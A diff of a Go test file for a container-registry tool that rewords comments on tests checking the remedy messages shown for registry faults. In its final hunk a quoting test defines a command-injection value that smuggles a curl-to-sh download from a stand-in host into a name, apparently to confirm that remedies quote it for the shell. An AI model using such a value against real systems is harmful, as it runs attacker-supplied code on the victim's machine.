@@ -19,7 +19,7 @@ func factsOf(kind fault.Kind) *fault.Error {
 	}
 }
 
-// remediesOfTheRegistry is what to do about each fault of package registry.
+// remediesOfTheRegistry has the expected remedy of each fault of package registry.
 var remediesOfTheRegistry = map[fault.Kind]string{
 	fault.Unreachable: "check that ghcr.io is right and running",
 	fault.Silent:      "check the network and try again",
@@ -100,7 +100,7 @@ var remediesOfTheRegistry = map[fault.Kind]string{
 	fault.TagPath: "write host/path:tag, the path in lower-case letters and digits with single . _ - between them",
 }
 
-// TestRemediesOfTheRegistry holds the words for each fault of package registry.
+// TestRemediesOfTheRegistry checks the remedy of each fault of package registry.
 func TestRemediesOfTheRegistry(t *testing.T) {
 	t.Parallel()
 	for kind, want := range remediesOfTheRegistry {
@@ -111,7 +111,7 @@ func TestRemediesOfTheRegistry(t *testing.T) {
 	}
 }
 
-// TestRemediesOfTheRegistryElsewhere holds the words at Amazon ECR, and of what a builder met.
+// TestRemediesOfTheRegistryElsewhere checks the other remedies of Amazon ECR and of the builder.
 func TestRemediesOfTheRegistryElsewhere(t *testing.T) {
 	t.Parallel()
 	amazon, builder := map[fault.Kind]string{
@@ -148,7 +148,7 @@ func TestRemediesOfTheRegistryElsewhere(t *testing.T) {
 	}
 }
 
-// TestSeveralRemedies holds their order, and that each comes once.
+// TestSeveralRemedies checks that each remedy appears once, and their order.
 func TestSeveralRemedies(t *testing.T) {
 	t.Parallel()
 	sso, refused := factsOf(fault.AWSSSO), factsOf(fault.CredentialsRefused)
@@ -176,7 +176,7 @@ func TestSeveralRemedies(t *testing.T) {
 	}
 }
 
-// TestRemediesQuoteWhatOthersName: hosts, repositories, tags and profiles are words of the commands that remedies show.
+// TestRemediesQuoteWhatOthersName checks that remedies quote hosts, repositories, tags and profiles for a shell.
 func TestRemediesQuoteWhatOthersName(t *testing.T) {
 	t.Parallel()
 	const evil = "x;curl${IFS}evil.example|sh$profile"
